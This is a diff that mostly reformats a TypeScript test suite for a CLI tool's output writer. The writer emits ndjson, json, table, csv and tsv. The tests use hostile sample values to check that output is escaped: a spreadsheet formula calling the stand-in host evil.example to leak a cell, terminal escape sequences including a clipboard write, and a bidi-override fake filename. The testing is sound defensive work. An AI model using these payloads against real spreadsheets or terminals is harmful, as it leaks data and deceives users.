@@ -54,7 +54,13 @@ describe('Output', () => {
   it('ndjson writes one object per line, json one array', async () => {
     const nd = capture('ndjson');
     await nd.output.list(rows, columns);
-    expect(nd.text().trimEnd().split('\n').map((line) => JSON.parse(line))).toEqual(rows);
+    expect(
+      nd
+        .text()
+        .trimEnd()
+        .split('\n')
+        .map((line) => JSON.parse(line)),
+    ).toEqual(rows);
     const js = capture('json');
     await js.output.list(rows, columns);
     expect(JSON.parse(js.text())).toEqual(rows);
@@ -104,7 +110,13 @@ describe('Output', () => {
     }
     await expect(output.list({ pages: pages() }, [])).rejects.toThrow('connection reset');
     expect(writes).toHaveLength(3);
-    expect(writes.join('').trimEnd().split('\n').map((line) => JSON.parse(line).n)).toEqual(Array.from({ length: 300 }, (_, n) => n));
+    expect(
+      writes
+        .join('')
+        .trimEnd()
+        .split('\n')
+        .map((line) => JSON.parse(line).n),
+    ).toEqual(Array.from({ length: 300 }, (_, n) => n));
   });
 
   it('waits for a slow sink to drain before the next page', async () => {
@@ -112,7 +124,7 @@ describe('Output', () => {
     const output = new Output(sink, 'ndjson', false);
     let made = 0;
     async function* pages() {
-      for (; made < 3; ) {
+      for (; made < 3;) {
         made += 1;
         yield Array.from({ length: 100 }, (_, n) => ({ n, padding: 'x'.repeat(50) }));
         await new Promise((resolve) => setImmediate(resolve)); // pages arrive in turns of their own
@@ -168,7 +180,11 @@ describe('Output', () => {
     let text = '';
     stream.on('data', (chunk) => (text += chunk));
     const rows = [
-      { id: '0146d6eb-a68f-4103-802e-a8ca5faad817', title: 'Крупа гречневая ядрица 800 г, отборная, в пакетах для варки', brand: 'Мистраль' },
+      {
+        id: '0146d6eb-a68f-4103-802e-a8ca5faad817',
+        title: 'Крупа гречневая ядрица 800 г, отборная, в пакетах для варки',
+        brand: 'Мистраль',
+      },
       { id: '003ffeb0-e028-4bc9-9f05-14869d0d6854', title: '漢字のタイトル、とても長い商品名です', brand: 'Ritter Sport' },
     ];
     await new Output(stream, 'table', false).list(rows, [
@@ -190,14 +206,23 @@ describe('Output', () => {
 
   it('hides the least important columns to keep numbers and ids whole, and says on stderr how to see them', async () => {
     const { output, notes, text: screen } = onTerminal(80);
-    const row = { id: '0146d6eb-a68f-4103-802e-a8ca5faad817', price: 222.33, observed: '2026-02-01T06:00:00Z', store: 'fixprice', unit: 'RUB' };
-    await output.list([row], [
-      { header: 'id', value: (r) => r.id },
-      { header: 'price', value: (r) => r.price },
-      { header: 'store', value: (r) => r.store, hide: 3 },
-      { header: 'unit', value: (r) => r.unit, hide: 1 },
-      { header: 'observed', value: (r) => r.observed, hide: 2 },
-    ]);
+    const row = {
+      id: '0146d6eb-a68f-4103-802e-a8ca5faad817',
+      price: 222.33,
+      observed: '2026-02-01T06:00:00Z',
+      store: 'fixprice',
+      unit: 'RUB',
+    };
+    await output.list(
+      [row],
+      [
+        { header: 'id', value: (r) => r.id },
+        { header: 'price', value: (r) => r.price },
+        { header: 'store', value: (r) => r.store, hide: 3 },
+        { header: 'unit', value: (r) => r.unit, hide: 1 },
+        { header: 'observed', value: (r) => r.observed, hide: 2 },
+      ],
+    );
     for (const line of screen().trimEnd().split('\n')) expect(stringWidth(line)).toBeLessThanOrEqual(80);
     for (const whole of [row.id, '222.33', 'fixprice']) expect(screen()).toContain(whole);
     expect(screen()).not.toContain('…');
@@ -207,14 +232,23 @@ describe('Output', () => {
 
   it('a table that declares no order of importance hides its last columns first, never the first', async () => {
     const { output, notes, text: screen } = onTerminal(80);
-    const key = { id: '0146d6eb-a68f-4103-802e-a8ca5faad817', name: 'ci-reader', scopes: 'read,write', subaccount: 'all', created: '2026-02-01T06:00:00.123Z' };
-    await output.list([key], [
-      { header: 'id', value: (k) => k.id },
-      { header: 'name', value: (k) => k.name },
-      { header: 'scopes', value: (k) => k.scopes },
-      { header: 'subaccount', value: (k) => k.subaccount },
-      { header: 'time total', value: (k) => k.created },
-    ]);
+    const key = {
+      id: '0146d6eb-a68f-4103-802e-a8ca5faad817',
+      name: 'ci-reader',
+      scopes: 'read,write',
+      subaccount: 'all',
+      created: '2026-02-01T06:00:00.123Z',
+    };
+    await output.list(
+      [key],
+      [
+        { header: 'id', value: (k) => k.id },
+        { header: 'name', value: (k) => k.name },
+        { header: 'scopes', value: (k) => k.scopes },
+        { header: 'subaccount', value: (k) => k.subaccount },
+        { header: 'time total', value: (k) => k.created },
+      ],
+    );
     for (const line of screen().trimEnd().split('\n')) expect(stringWidth(line)).toBeLessThanOrEqual(80);
     for (const whole of [key.id, 'ci-reader', 'read,write', 'all']) expect(screen()).toContain(whole);
     expect(notes).toEqual(["time total hidden to fit 80 columns; to choose the columns: --columns 'id,name,scopes,subaccount,time total'"]);
@@ -254,11 +288,14 @@ describe('Output', () => {
   it('shows hostile text escaped: control, bidi and zero-width characters, and a newline never makes a row', async () => {
     const evil = { name: 'prod-\u202eredaer', title: 'a\u200bb\nfake │ row', unit: '\u001b]52;c;cHduZWQ=\u0007\u001b[2J' };
     const table = capture('table', false);
-    await table.output.list([evil], [
-      { header: 'name', value: (r) => r.name },
-      { header: 'title', value: (r) => r.title },
-      { header: 'unit', value: (r) => r.unit },
-    ]);
+    await table.output.list(
+      [evil],
+      [
+        { header: 'name', value: (r) => r.name },
+        { header: 'title', value: (r) => r.title },
+        { header: 'unit', value: (r) => r.unit },
+      ],
+    );
     expect(table.text()).toContain('prod-\\u202eredaer');
     expect(table.text()).toContain('a\\u200bb\\nfake │ row');
     expect(table.text()).toContain('\\x1b]52;c;cHduZWQ=\\x07\\x1b[2J');
@@ -281,7 +318,15 @@ describe('Output', () => {
   });
 
   it('csv and tsv give a text cell that a spreadsheet would run as a formula a leading quote; numbers stay as they are', async () => {
-    const hostile = { name: '=HYPERLINK("https://evil.example/?"&A1)', plus: '+1+cmd', minus: '-2+3', at: '@SUM(A1)', tab: '\t=1', cr: '\r=1', list: ['=a', 'b'] };
+    const hostile = {
+      name: '=HYPERLINK("https://evil.example/?"&A1)',
+      plus: '+1+cmd',
+      minus: '-2+3',
+      at: '@SUM(A1)',
+      tab: '\t=1',
+      cr: '\r=1',
+      list: ['=a', 'b'],
+    };
     const numbers = { n: -3, big: -12345678901234567890n, text: 'fine', dash: 'a-b', empty: '', none: null, yes: true };
     const csv = capture('csv');
     await csv.output.list([hostile], []);
@@ -294,7 +339,9 @@ describe('Output', () => {
     for (const format of ['csv', 'tsv'] as const) {
       const plain = capture(format);
       await plain.output.list([numbers], []);
-      expect(plain.text().split('\n')[1]).toBe(['-3', '-12345678901234567890', 'fine', 'a-b', '', '', 'true'].join(format === 'csv' ? ',' : '\t'));
+      expect(plain.text().split('\n')[1]).toBe(
+        ['-3', '-12345678901234567890', 'fine', 'a-b', '', '', 'true'].join(format === 'csv' ? ',' : '\t'),
+      );
     }
   });
 
@@ -303,7 +350,7 @@ describe('Output', () => {
     for (const format of ['csv', 'tsv'] as const) {
       const out = capture(format);
       await out.output.list([row], [], undefined, undefined, ['amount', 'odd']);
-      expect(out.text().split('\n')[1]).toBe(["-12.50", "'-12.50", "'-1+1"].join(format === 'csv' ? ',' : '\t'));
+      expect(out.text().split('\n')[1]).toBe(['-12.50', "'-12.50", "'-1+1"].join(format === 'csv' ? ',' : '\t'));
     }
   });
 
@@ -311,7 +358,9 @@ describe('Output', () => {
     const row = { name: 'invoice-\u202egnp.exe', iso: 'a\u2066b\u2069c', mark: 'a\u202ab\u202cc' };
     const csv = capture('csv');
     await csv.output.list([row], []);
-    expect(parse(csv.text(), { columns: true })).toEqual([{ name: 'invoice-\\u202egnp.exe', iso: 'a\\u2066b\\u2069c', mark: 'a\\u202ab\\u202cc' }]);
+    expect(parse(csv.text(), { columns: true })).toEqual([
+      { name: 'invoice-\\u202egnp.exe', iso: 'a\\u2066b\\u2069c', mark: 'a\\u202ab\\u202cc' },
+    ]);
     const tsv = capture('tsv');
     await tsv.output.list([row], []);
     expect(tsv.text()).toBe('name\tiso\tmark\ninvoice-\\u202egnp.exe\ta\\u2066b\\u2069c\ta\\u202ab\\u202cc\n');
@@ -325,7 +374,11 @@ describe('Output', () => {
     let text = '';
     stream.on('data', (chunk) => (text += chunk));
     const file = '/home/ci/.config/trident/keys/0146d6eb-a68f-4103-802e-a8ca5faad817.pem';
-    await new Output(stream, 'table', true).object({ title: 'Крупа гречневая ядрица 800 г, отборная, в пакетах для варки', price: 91.98, private_key_file: file });
+    await new Output(stream, 'table', true).object({
+      title: 'Крупа гречневая ядрица 800 г, отборная, в пакетах для варки',
+      price: 91.98,
+      private_key_file: file,
+    });
     const lines = text.trimEnd().split('\n');
     for (const line of lines) expect(stringWidth(line)).toBeLessThanOrEqual(50);
     const plain = text.replace(/\u001b\[\d+m/g, '');
